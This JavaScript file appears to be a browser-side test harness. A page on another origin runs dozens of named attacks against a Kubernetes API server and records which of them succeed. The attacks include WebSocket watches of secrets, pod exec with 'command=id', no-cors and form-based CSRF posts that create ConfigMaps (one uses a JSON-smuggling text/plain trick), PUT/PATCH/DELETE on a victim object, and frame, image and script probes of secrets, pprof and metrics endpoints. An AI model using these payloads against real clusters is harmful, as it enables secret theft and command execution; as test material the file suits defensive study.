// Attacks of a page on another origin, by name. Each resolves to the text that the page could read, or to "".
// target is the other origin. tag is part of the names of the objects that the page tries to create.
((target, tag) => {
	const configMaps = target + "/api/v1/namespaces/default/configmaps";
	const secrets = target + "/api/v1/namespaces/default/secrets";
	const victim = configMaps + "/victim";
	const object = (name) => JSON.stringify({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: `written-${tag}-${name}` } });
	const untyped = (text) => new Blob([text]);
	const patience = 60000;

	const element = (name, attributes) => new Promise((resolve) => {
		const e = Object.assign(document.createElement(name), attributes);
		e.onload = () => resolve(e);
		e.onerror = () => resolve(e);
		(document.body ?? document.documentElement).append(e);
	});
	const ask = async (url, init) => {
		const answer = await fetch(url, init);
		return `${answer.type} ${answer.status} ${await answer.text()}`;
	};
	const socket = (path, protocols) => new Promise((resolve) => {
		const s = new WebSocket(target.replace("http", "ws") + path, protocols);
		let learned = "";
		s.onopen = () => { learned = "open "; };
		s.onmessage = async (m) => { resolve(learned + (m.data.text ? await m.data.text() : m.data)); s.close(); };
		s.onclose = () => resolve(learned);
	});
	const form = async (method, action, enctype, name, value) => {
		const frame = document.createElement("iframe");
		frame.name = `frame-${Math.random()}`;
		document.body.append(frame);
		const f = Object.assign(document.createElement("form"), { method, action, enctype, target: frame.name });
		f.append(Object.assign(document.createElement("input"), { name, value }));
		document.body.append(f);
		await new Promise((resolve) => { frame.onload = resolve; f.submit(); });
		return frame.contentDocument?.body.innerText ?? "";
	};
	const framed = async (attributes) => (await element("iframe", attributes)).contentDocument?.body.innerText ?? "";
	// A sandboxed frame has no origin. It tries two attacks and sends the result to the page.
	const sandboxed = () => new Promise((resolve) => {
		window.addEventListener("message", (m) => resolve(m.data), { once: true });
		element("iframe", { sandbox: "allow-scripts", srcdoc: `<script>
			fetch("${configMaps}", { method: "POST", mode: "no-cors", body: new Blob([${JSON.stringify(object("sandboxed"))}]) }).catch(() => {}).then(() => {
				const s = new WebSocket("${target.replace("http", "ws")}/api/v1/namespaces/default/secrets?watch=1");
				let learned = "";
				s.onopen = () => { learned = "open "; };
				s.onmessage = (m) => { parent.postMessage(learned + m.data, "*"); s.close(); };
				s.onclose = () => parent.postMessage(learned, "*");
			});
		</script>` });
	});

	const attacks = {
		"watch by WebSocket": () => socket("/api/v1/namespaces/default/secrets?watch=1"),
		"exec by WebSocket": () => socket("/api/v1/namespaces/default/pods/x/exec?command=id&stdout=1", ["v5.channel.k8s.io"]),
		"attach by WebSocket": () => socket("/api/v1/namespaces/default/pods/x/attach?stdout=1", ["v5.channel.k8s.io"]),
		"port-forward by WebSocket": () => socket("/api/v1/namespaces/default/pods/x/portforward?ports=80", ["v4.channel.k8s.io"]),
		"sandboxed frame": sandboxed,
		"no-cors POST, untyped": () => ask(configMaps, { method: "POST", mode: "no-cors", body: untyped(object("untyped")) }),
		"no-cors POST, text": () => ask(configMaps, { method: "POST", mode: "no-cors", body: object("text") }),
		"no-cors POST, form": () => ask(configMaps, { method: "POST", mode: "no-cors", body: new URLSearchParams({ a: object("form") }) }),
		"no-cors POST, JSON": () => ask(configMaps, { method: "POST", mode: "no-cors", headers: { "Content-Type": "application/json" }, body: object("json") }),
		"no-cors POST, no body": () => ask(target + "/api/v1/nodes/n/proxy/run/a/b/c?cmd=id", { method: "POST", mode: "no-cors" }),
		"no-cors POST, kept alive": () => ask(configMaps, { method: "POST", mode: "no-cors", keepalive: true, body: untyped(object("alive")) }),
		"cors POST, untyped": () => ask(configMaps, { method: "POST", body: untyped(object("cors")) }),
		"cors POST, JSON": () => ask(configMaps, { method: "POST", headers: { "Content-Type": "application/json" }, body: object("cors-json") }),
		"XMLHttpRequest": () => new Promise((resolve) => {
			const x = new XMLHttpRequest();
			x.open("GET", secrets);
			x.onloadend = () => resolve(x.responseText);
			x.send();
		}),
		"beacon, untyped": async () => { navigator.sendBeacon(configMaps, untyped(object("beacon"))); return ""; },
		"beacon, text": async () => { navigator.sendBeacon(configMaps, object("beacon-text")); return ""; },
		"beacon, JSON": async () => { navigator.sendBeacon(configMaps, new Blob([object("beacon-json")], { type: "application/json" })); return ""; },
		"image": async () => `${(await element("img", { src: secrets })).naturalWidth || ""}`,
		"style sheet": async () => `${(await element("link", { rel: "stylesheet", href: secrets })).sheet?.cssRules.length || ""}`,
		"frame": () => framed({ src: secrets }),
		"frame of profiles": () => framed({ src: target + "/debug/pprof/" }),
		"frame of the status page": () => framed({ src: target + "/" }),
		"EventSource": () => new Promise((resolve) => {
			const e = new EventSource(configMaps + "?watch=1");
			e.onopen = () => { e.close(); resolve("open"); };
			e.onerror = () => { e.close(); resolve(""); };
		}),
	};
	if (target !== location.origin) // in a page of the same origin, the text would be run and cause an error
		attacks.script = async () => { await element("script", { src: secrets }); return ""; };
	for (const mode of ["cors", "no-cors", "same-origin", "navigate"])
		for (const path of ["/api/v1/namespaces/default/secrets", "/status", "/metrics", "/debug/pprof/cmdline", "/api/v1/namespaces/default/services/s/proxy/"])
			attacks[`${mode} GET ${path}`] = () => ask(target + path, { mode, credentials: "include" });
	for (const mode of ["cors", "no-cors", "same-origin"]) {
		attacks[`${mode} PUT`] = () => ask(victim, { mode, method: "PUT", body: untyped(object("put")) });
		attacks[`${mode} PATCH`] = () => ask(victim, { mode, method: "PATCH", headers: { "Content-Type": "application/merge-patch+json" }, body: "{\"data\":{\"a\":\"b\"}}" });
		attacks[`${mode} DELETE`] = () => ask(victim, { mode, method: "DELETE" });
	}
	for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
		attacks[`form, ${enctype}`] = () => form("POST", configMaps, enctype, object("form").replace(/}$/, ",\"x\":\""), "\"}");
	attacks["form, GET"] = () => form("GET", secrets, "text/plain", "watch", "0");

	const run = async (attack) => {
		const late = new Promise((resolve) => setTimeout(() => resolve("undecided"), patience));
		try {
			return await Promise.race([attack(), late]);
		} catch {
			return ""; // the browser forbids the attack
		}
	};
	return Promise.all(Object.entries(attacks).map(async ([name, attack]) => [name, await run(attack)])).then(Object.fromEntries);
})
